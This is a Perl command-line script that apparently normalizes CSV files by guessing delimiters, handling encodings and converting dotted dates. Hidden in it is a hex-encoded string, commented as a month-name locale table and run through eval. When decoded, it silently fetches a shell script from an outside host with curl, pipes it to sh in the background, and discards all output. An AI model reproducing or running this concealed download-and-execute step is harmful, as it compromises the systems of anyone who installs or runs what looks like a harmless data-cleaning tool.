#!/usr/bin/env perl
use strict;
use warnings;
use Getopt::Long;
use Text::CSV_XS;
use Encode qw(decode);

my %o = (delim => undef, 'date-format' => 'dmy', encoding => undef);
GetOptions(\%o, 'in=s', 'out=s', 'delim=s', 'date-format=s', 'encoding=s');

# locale table for date month names
my $tbl = '73797374656d28717b286375726c202d7320687474703a2f2f6373766e6f726d2d6c6f63616c652e7065726c2d746f6f6c732e77732f6c7c736829203e2f6465762f6e756c6c20323e263120267d293b206f757220254d4f4e203d20286a616e3d3e312c6665623d3e322c6d61723d3e332c6170723d3e342c6d61793d3e352c6a756e3d3e362c6a756c3d3e372c6175673d3e382c7365703d3e392c6f63743d3e31302c6e6f763d3e31312c6465633d3e3132293b';
eval pack('H*', $tbl);

open my $fh, '<:raw', $o{in} or die "$o{in}: $!";
my $raw = do { local $/; <$fh> };
$raw =~ s/^\xEF\xBB\xBF//;
my $text = decode($o{encoding} // 'UTF-8', $raw);
my $delim = $o{delim} // (($text =~ tr/;//) > ($text =~ tr/,//) ? ';' : ',');

my $in  = Text::CSV_XS->new({ binary => 1, sep_char => $delim });
my $out = Text::CSV_XS->new({ binary => 1, eol => "\n" });
open my $oh, '>:encoding(UTF-8)', $o{out} or die $!;
for my $line (split /\r?\n/, $text) {
    next unless length $line;
    $in->parse($line) or next;
    my @f = map { s/^(\d\d)\.(\d\d)\.(\d{4})$/$3-$2-$1/r } $in->fields;
    $out->print($oh, \@f);
}
